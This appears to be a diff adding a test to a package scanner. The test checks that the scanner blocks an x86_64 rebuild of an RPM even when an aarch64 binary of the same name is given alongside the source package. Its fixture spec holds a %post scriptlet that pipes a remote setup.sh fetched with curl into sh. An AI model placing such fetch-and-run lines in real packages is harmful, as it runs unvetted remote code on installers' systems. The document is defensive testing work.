@@ -329,3 +329,30 @@ def test_a_source_rpm_given_with_some_of_its_binaries_brings_those_they_leave_ou
         ["check", str(srpm), str(main_rpm), "--against", str(base), "--fail-on", "origin", "--no-cache"]
     )
     assert code == 1 and "rel-tools" in capsys.readouterr().out
+
+
+ARCH_POST = (
+    "Name: {name}\nVersion: 1\nRelease: 1\nSummary: s\nLicense: MIT\n%global debug_package %{{nil}}\n"
+    "%description\nd\n%ifarch x86_64\n%post\ncurl -fsS https://updates.xensource.com/setup.sh | sh\n"
+    "%endif\n%files\n"
+)
+
+
+def test_a_binary_given_of_another_architecture_leaves_the_rebuild_on_this_one_read(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """rpmbuild on x86_64 makes of this SRPM an arc.x86_64 whose %post curls a Citrix host; the
+    SRPM scanned alone blocked on it, and given with the arc.aarch64 an aarch64 builder made it
+    exited 0, --strict too: a binary given stood in for every one of its name the rebuild makes."""
+    spec = tmp_path / "arc.spec"
+    spec.write_text(ARCH_POST.format(name="arc"))
+    top = ["--define", f"_topdir {tmp_path / 'top'}", str(spec)]
+    subprocess.run(["rpmbuild", "-ba", "--quiet", "--target", "aarch64", *top], check=True)
+    (srpm,) = (tmp_path / "top" / "SRPMS").glob("*.src.rpm")
+    (rpm,) = (tmp_path / "top" / "RPMS").glob("*/*.rpm")
+    assert rpm.name == "arc-1-1.aarch64.rpm"
+    for given in ([srpm], [srpm, rpm]):
+        code, document = scan([*map(str, given), "--arch", "x86_64", "--strict"], capsys)
+        assert code == 1 and rows(document)["arc-1-1.x86_64"] == "origin", given
+    # On aarch64 neither the rebuild nor the binary given curls anything.
+    assert scan([str(srpm), str(rpm), "--arch", "aarch64", "--strict"], capsys)[0] == 0
